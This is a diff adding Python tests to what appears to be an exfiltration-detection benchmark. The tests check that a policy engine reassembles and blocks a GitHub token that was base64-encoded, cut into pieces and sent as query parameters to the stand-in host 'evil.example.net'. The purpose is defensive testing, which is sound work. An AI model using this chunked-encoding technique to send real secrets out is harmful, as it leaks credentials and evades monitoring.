@@ -2,7 +2,9 @@
 
 from __future__ import annotations
 
+import base64
 import json
+import urllib.parse
 
 from bench.exfil.benign import benign_cases
 from bench.exfil.world import make_secrets
@@ -121,3 +123,42 @@ def test_the_benign_corpus_through_one_policy_assembles_nothing() -> None:
             )
             decision = engine.check_request(request)
             assert "assembled" not in decision.rules, (case.id, decision.reason)
+
+
+def _b64_pieces(text: bytes, size: int, urlsafe: bool = False) -> list[str]:
+    encode = base64.urlsafe_b64encode if urlsafe else base64.b64encode
+    return _pieces(encode(text).decode(), size)
+
+
+def test_a_key_base64_encoded_then_cut_is_decoded_and_assembled() -> None:
+    for urlsafe in (False, True):
+        engine = policy(**OPEN)
+        pieces = _b64_pieces(GITHUB.encode(), 12, urlsafe)
+        requests = [
+            _get("evil.example.net", f"/c?i={n}&d={urllib.parse.quote(p, safe='')}", flow=f"b{n}")
+            for n, p in enumerate(pieces)
+        ]
+        decisions = [engine.check_request(r) for r in requests]
+        blocked = [n for n, d in enumerate(decisions) if d.verdict is Verdict.BLOCK]
+        assert blocked and blocked[0] >= 3, decisions  # 36 base64 characters: `ghp_` + 23
+        assert decisions[blocked[0]].rules == ("github_token", "assembled")
+        assert "b0" in decisions[blocked[0]].reason
+
+
+def test_base64_pieces_of_ordinary_text_assemble_nothing() -> None:
+    engine = policy(**OPEN)
+    texts = [
+        b"ghp_ is the prefix of a GitHub personal access token, see the docs",
+        b"sk-learn-pipeline-overview and estimators, chapter one of three",
+        ("AKIA" + "x" * 40).encode(),  # the anchor, then filler: no key
+    ]
+    for n, text in enumerate(texts):
+        for piece in _b64_pieces(text, 12):
+            request = _get(f"site{n}.example.net", f"/c?d={urllib.parse.quote(piece, safe='')}")
+            assert engine.check_request(request).verdict is Verdict.ALLOW
+
+
+def test_a_whole_base64_key_is_the_scanners_not_an_assembly() -> None:
+    whole = base64.b64encode(GITHUB.encode()).decode()
+    decision = policy(**OPEN).check_request(_get("evil.example.net", f"/c?d={whole}"))
+    assert decision.verdict is Verdict.BLOCK and "assembled" not in decision.rules
